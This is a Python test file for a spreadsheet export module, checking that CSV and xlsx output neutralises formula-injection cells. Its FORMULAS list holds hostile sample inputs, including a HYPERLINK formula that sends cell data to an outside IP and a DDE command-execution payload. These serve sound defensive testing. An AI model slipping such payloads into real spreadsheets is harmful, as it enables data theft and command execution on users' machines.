"""Attack 21: a name that a spreadsheet would work out. It stays text in every file that we write, and comes back equal."""

import csv
import io
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop.domain.spreadsheets import csv_bytes, harmless, xlsx_bytes

FORMULAS = [
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1)", "+447700900123", "+1-1", "-2+3", "@SUM(A1)", "|calc", "%0A", "\t=1+1", "\r=1",
    "\n=1",    "＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "  =1+1", "\u00a0@A1",
    "\u200b-1", "=", "\t", "\t\t", "=cmd|' /C calc'!A0",
]  # fmt: skip
HARMLESS = ["", "Adah Osei", "12 Mill Lane", "O'Neill", "a=b", "1+1", " a", "020 7946 0000", "\u200f", "'=1"]
WORDS = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)


def _read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_worked_out_begins_with_a_tab_inside_quotation_marks(text: str) -> None:
    content = csv_bytes(["name"], [[text]]).decode("utf-8-sig")
    assert content.split("\r\n", 1)[1].startswith('"\t')
    assert _read_csv(content.encode())[1] == ["\t" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_cell_that_is_none_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(WORDS)
@example("\t=1")
@example("\tAdah")
def test_what_was_made_harmless_comes_back_equal(text: str) -> None:
    (read,) = _read_csv(csv_bytes(["name"], [[text]]))[1]
    assert read == harmless(text)
    assert read.removeprefix("\t") == text


@given(WORDS)
def test_nothing_that_is_written_begins_as_a_formula_does(text: str) -> None:
    assert harmless(text).lstrip(" \ufeff\u00a0\u200b\u200e\u200f\u2060\u3000")[:1] not in set(
        "=+-@|%＝＋－＠"
    )


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_a_workbook_holds_text_typed_as_text(text: str) -> None:
    content = xlsx_bytes(["name", "people"], [[text, 7]])
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cell, number = next(load_workbook(io.BytesIO(content))["People"].iter_rows(min_row=2))
    assert (cell.value or "") == text.replace("\r", "\n") or cell.value == text
    assert text == "" or cell.data_type == "s"
    assert number.value == 7


def test_a_workbook_is_made_in_memory_and_leaves_nothing_beside_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))

    def cut_short() -> Iterator[list[str]]:
        yield ["Adah"]
        raise InterruptedError

    with pytest.raises(InterruptedError):
        xlsx_bytes(["name"], cut_short())
    names = [f"c{number}" for number in range(60)]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(names, [names])))["People"]
    assert [cell.value for cell in sheet[2]] == names
    assert sheet["BH1"].value == "c59"


def test_letters_that_a_workbook_cannot_hold_are_shown_as_missing() -> None:
    content = xlsx_bytes(["name"], [["a\x00b\x1bc\ud800\uffff"]])
    assert load_workbook(io.BytesIO(content))["People"]["A2"].value == "a\ufffdb\ufffdc?\ufffd"
